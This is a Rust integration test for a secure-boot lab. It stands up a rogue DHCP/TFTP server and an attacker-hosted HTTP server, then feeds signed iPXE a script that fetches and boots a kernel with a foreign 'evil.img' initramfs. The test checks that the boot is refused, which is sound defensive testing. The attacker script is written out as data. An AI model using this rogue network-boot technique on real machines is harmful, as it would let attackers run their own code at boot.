//! iPXE that the site signed does what a script says, and whoever answers DHCP names the script. What it may start is the firmware's
//! to say: the same attack from a disk is `secure_boot::a_signed_kernel_alone_starts_nothing`.

use crate::secure_boot::{Kernels, is_enforced, program, secure};
use crate::shim::{SNPONLY, signed};
use crate::support::esp;
use crate::support::files::Files;
use kiln_lab::console::Mark;
use kiln_lab::net::{self, SERVER, SiteDhcp};
use kiln_lab::paths::Paths;
use kiln_lab::rack::{IDLE, Rack, RackOptions};
use kiln_lab::server::DhcpMode;
use kiln_lab::testing;
use kiln_lab::variables::NetworkBoot;
use std::net::{Ipv4Addr, SocketAddr};
use std::path::Path;

const NAME: &str = "rack-1";
const SCENARIO: &str = "ipxe-script";
const ATTACKER: Ipv4Addr = Ipv4Addr::new(10, 77, 0, 66);
/// What the script prints where a command failed; what the command says of it stands before.
const REFUSED: &str = "KILN-SCRIPT-REFUSED";

/// The only DHCP server: firmware gets iPXE, iPXE gets the attacker's script, and the agent the site's own boot server.
fn dhcp(paths: &Paths, folder: &Path) -> SiteDhcp {
    let more = [
        "--enable-tftp".to_owned(),
        format!("--tftp-root={}", folder.display()),
        "--dhcp-vendorclass=set:agent,KilnAgent".to_owned(),
        "--dhcp-userclass=set:ipxe,iPXE".to_owned(),
        "--dhcp-boot=tag:!agent,tag:!ipxe,snponly.efi".to_owned(),
        "--dhcp-boot=tag:ipxe,script.ipxe".to_owned(),
        format!("--dhcp-option=tag:agent,66,{SERVER}"),
    ];
    SiteDhcp::start(&paths.program, &paths.consoles.join(SCENARIO).join("attacker.log"), &more).unwrap()
}

/// A script of these commands, of which the first that fails is told.
fn script(commands: &[String]) -> String {
    format!("#!ipxe\n{} || goto refused\n:refused\necho {REFUSED}\n", commands.join(" || goto refused\n"))
}

/// Switches it on, and waits for a line of this start.
fn starts_and_says(rack: &mut Rack, line: &str) -> String {
    rack.machine(NAME).power_on().unwrap();
    let console = rack.machine(NAME).console().unwrap().clone();
    console.wait_for_line(line, Mark::default(), IDLE).unwrap();
    console.since(Mark::default())
}

/// An attacker's script lets the signed iPXE start the kernel that the site signed for a kexec, with an initramfs of the attacker's:
/// refused. The same script starts a kernel which is signed as a boot program, with that initramfs; and iPXE the release itself.
#[test]
#[ignore = "slow: three boots by iPXE; make test-slow"]
fn a_script_for_a_signed_ipxe_starts_no_kernel_with_a_foreign_initramfs() {
    testing::rack(|paths| {
        let mut options = RackOptions::scenario(paths, SCENARIO, secure(paths, NetworkBoot::Pxe));
        options.dhcp = DhcpMode::Off;
        let mut rack = Rack::start(paths, &options).unwrap();
        let (tftp, http) = (paths.scratch.join("tftp"), paths.scratch.join("http"));
        for folder in [&tftp, &http] {
            std::fs::create_dir(folder).unwrap();
        }
        std::fs::copy(signed(paths, Path::new(SNPONLY)), tftp.join("snponly.efi")).unwrap();
        let kernels = Kernels::of(paths, &rack);
        std::fs::write(http.join("evil.img"), esp::initramfs()).unwrap();
        std::fs::copy(program(&rack), http.join("kiln.efi")).unwrap();
        net::set_address(ATTACKER, true).unwrap();
        let files = Files::serve_at(SocketAddr::from((ATTACKER, 8090)), http.clone());
        let _dhcp = dhcp(paths, &tftp);

        let url = &files.url;
        let foreign = script(&[
            // The kernel finds the initramfs by the name that iPXE has it under.
            format!("kernel {url}/k.efi console=ttyS0 rdinit=/evil initrd=evil.img"),
            format!("initrd {url}/evil.img"),
            "boot".to_owned(),
        ]);
        std::fs::write(tftp.join("script.ipxe"), foreign).unwrap();
        std::fs::write(http.join("k.efi"), &kernels.copy).unwrap();
        let said = starts_and_says(&mut rack, REFUSED);
        assert!(files.asked.lock().unwrap().contains("/k.efi"), "it has the kernel: {said}");
        let why = said.lines().find(|line| line.contains("Could not "));
        println!("{}", why.unwrap_or_else(|| panic!("it says why: {said}")));
        assert!(!said.contains("Linux version") && !said.contains(esp::WORD), "{said}");

        // It was this: the same script starts a kernel that firmware may start.
        std::fs::write(http.join("k.efi"), &kernels.signed).unwrap();
        let said = starts_and_says(&mut rack, esp::WORD);
        assert!(said.contains("Linux version") && !said.contains(REFUSED), "{said}");

        let release = script(&[format!("kernel {url}/kiln.efi"), "boot".to_owned()]);
        std::fs::write(tftp.join("script.ipxe"), release).unwrap();
        rack.machine(NAME).power_on().unwrap();
        assert!(is_enforced(&rack.wait_healthy(NAME, 1).unwrap()));
        let console = rack.machine(NAME).console().unwrap();
        let said = console.since(Mark::default());
        // Where the transfer takes its time, percentages stand before its `ok`.
        let words = ["NBP filename is snponly.efi", "Open Source Network Boot Firmware", "/kiln.efi... "];
        assert!(words.iter().all(|word| said.contains(word)), "{}", console.last_words(60));
    });
}
